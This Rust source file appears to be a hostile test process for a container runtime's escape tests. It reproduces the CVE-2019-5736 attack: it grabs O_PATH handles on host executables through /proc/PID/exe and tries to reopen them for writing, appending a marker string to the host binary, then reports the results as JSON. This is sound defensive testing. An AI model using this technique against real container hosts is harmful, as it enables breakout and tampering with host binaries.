//! A hostile container process for the escape tests (tests/escapes.rs),
//! built statically with the tests (`cargo test` builds examples).
//!
//! It plays the CVE-2019-5736 attacker: for SECONDS it scans `/proc` for
//! berth processes (by `comm`) and for any process whose executable is not
//! a file of the container's own root, grabs an `O_PATH` fd on each such
//! `/proc/PID/exe` it can, and keeps trying to reopen every fd it holds for
//! writing. A write it gets is an append of
//! `ESCAPED` to the host binary behind it. At the end it prints a JSON report
//! on stdout, so a test can tell an attack that failed from one that never
//! ran. It stops early when `/attack-stop` appears.
//!
//! Usage: `escape_attacker SECONDS`

use std::collections::BTreeMap;
use std::ffi::CString;
use std::io::Write;
use std::time::{Duration, Instant};

struct Held {
    fd: i32,
    pid: i32,
    target: String,
    /// The file behind the fd sits on a read-only mount.
    read_only_mount: bool,
}

fn errno_name(e: i32) -> String {
    match e {
        libc::EACCES => "EACCES".into(),
        libc::EPERM => "EPERM".into(),
        libc::ENOENT => "ENOENT".into(),
        libc::ESRCH => "ESRCH".into(),
        libc::ETXTBSY => "ETXTBSY".into(),
        libc::EROFS => "EROFS".into(),
        libc::ENOTDIR => "ENOTDIR".into(),
        n => format!("errno {n}"),
    }
}

fn last_errno() -> i32 {
    std::io::Error::last_os_error().raw_os_error().unwrap_or(0)
}

fn open_raw(path: &str, flags: i32) -> Result<i32, i32> {
    let c = CString::new(path).map_err(|_| libc::EINVAL)?;
    // SAFETY: c is a valid C string; open returns a new fd or -1.
    let fd = unsafe { libc::open(c.as_ptr(), flags | libc::O_CLOEXEC) };
    if fd < 0 {
        Err(last_errno())
    } else {
        Ok(fd)
    }
}

fn on_read_only_mount(fd: i32) -> bool {
    // SAFETY: an all-zero statvfs is a valid out buffer.
    let mut st: libc::statvfs = unsafe { std::mem::zeroed() };
    // SAFETY: fd is ours and st is a valid out pointer.
    unsafe { libc::fstatvfs(fd, &mut st) == 0 && (st.f_flag & libc::ST_RDONLY) != 0 }
}

/// The file behind `fd` is the one at `path` in our own root.
fn same_file(fd: i32, path: &str) -> bool {
    let id = |st: &libc::stat| (st.st_dev, st.st_ino);
    // SAFETY: all-zero stat buffers are valid out buffers.
    let (mut a, mut b): (libc::stat, libc::stat) =
        unsafe { (std::mem::zeroed(), std::mem::zeroed()) };
    let Ok(c) = CString::new(path) else {
        return false;
    };
    // SAFETY: fd is ours, c a valid C string, a and b valid out pointers.
    unsafe {
        libc::fstat(fd, &mut a) == 0 && libc::stat(c.as_ptr(), &mut b) == 0 && id(&a) == id(&b)
    }
}

fn json_str(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn main() {
    let secs: u64 = std::env::args()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(10);
    let me = std::process::id() as i32;
    let deadline = Instant::now() + Duration::from_secs(secs);
    // pid → (comm, what readlink of its exe gave)
    let mut seen: BTreeMap<i32, (String, String)> = BTreeMap::new();
    let mut held: Vec<Held> = Vec::new();
    let mut path_errors: BTreeMap<String, u64> = BTreeMap::new();
    let mut write_errors: BTreeMap<String, u64> = BTreeMap::new();
    let mut written: Vec<String> = Vec::new();
    let mut scans = 0u64;

    while Instant::now() < deadline && !std::path::Path::new("/attack-stop").exists() {
        scans += 1;
        if let Ok(rd) = std::fs::read_dir("/proc") {
            for e in rd.flatten() {
                let Some(pid) = e.file_name().to_str().and_then(|s| s.parse::<i32>().ok()) else {
                    continue;
                };
                if pid == me {
                    continue;
                }
                let comm = std::fs::read_to_string(format!("/proc/{pid}/comm"))
                    .map(|s| s.trim().to_string())
                    .unwrap_or_default();
                let is_berth = comm.starts_with("berth");
                if is_berth {
                    let exe = match std::fs::read_link(format!("/proc/{pid}/exe")) {
                        Ok(p) => p.to_string_lossy().into_owned(),
                        Err(e) => errno_name(e.raw_os_error().unwrap_or(0)),
                    };
                    seen.entry(pid).or_insert((comm.clone(), exe));
                }
                if held.iter().any(|h| h.pid == pid) {
                    continue;
                }
                // Any executable that is not a file of our own root is the
                // host's: a berth process, or a binary berth exposed.
                match open_raw(&format!("/proc/{pid}/exe"), libc::O_PATH) {
                    Ok(fd) => {
                        let target = std::fs::read_link(format!("/proc/self/fd/{fd}"))
                            .map(|p| p.to_string_lossy().into_owned())
                            .unwrap_or_default();
                        if same_file(fd, &target) {
                            // SAFETY: fd is ours.
                            unsafe { libc::close(fd) };
                            continue;
                        }
                        seen.insert(pid, (comm, target.clone()));
                        held.push(Held {
                            fd,
                            pid,
                            target,
                            read_only_mount: on_read_only_mount(fd),
                        });
                    }
                    Err(e) if is_berth => *path_errors.entry(errno_name(e)).or_default() += 1,
                    Err(_) => {}
                }
            }
        }
        for h in &held {
            if written.contains(&h.target) {
                continue;
            }
            match open_raw(
                &format!("/proc/self/fd/{}", h.fd),
                libc::O_WRONLY | libc::O_APPEND,
            ) {
                Ok(wfd) => {
                    let mut f = {
                        use std::os::fd::FromRawFd;
                        // SAFETY: wfd is a fresh fd we own.
                        unsafe { std::fs::File::from_raw_fd(wfd) }
                    };
                    let _ = f.write_all(b"ESCAPED");
                    written.push(h.target.clone());
                }
                Err(e) => *write_errors.entry(errno_name(e)).or_default() += 1,
            }
        }
        // SAFETY: sched_yield has no preconditions.
        unsafe { libc::sched_yield() };
    }

    let seen_json: Vec<String> = seen
        .iter()
        .map(|(pid, (comm, exe))| {
            format!(
                "{{\"pid\":{pid},\"comm\":{},\"exe\":{}}}",
                json_str(comm),
                json_str(exe)
            )
        })
        .collect();
    let held_json: Vec<String> = held
        .iter()
        .map(|h| {
            format!(
                "{{\"pid\":{},\"target\":{},\"read_only_mount\":{}}}",
                h.pid,
                json_str(&h.target),
                h.read_only_mount
            )
        })
        .collect();
    let map_json = |m: &BTreeMap<String, u64>| {
        let items: Vec<String> = m
            .iter()
            .map(|(k, v)| format!("{}:{v}", json_str(k)))
            .collect();
        format!("{{{}}}", items.join(","))
    };
    let written_json: Vec<String> = written.iter().map(|w| json_str(w)).collect();
    println!(
        "{{\"scans\":{scans},\"seen\":[{}],\"opath_fds\":[{}],\"open_path_errors\":{},\"open_write_errors\":{},\"written\":[{}]}}",
        seen_json.join(","),
        held_json.join(","),
        map_json(&path_errors),
        map_json(&write_errors),
        written_json.join(",")
    );
}
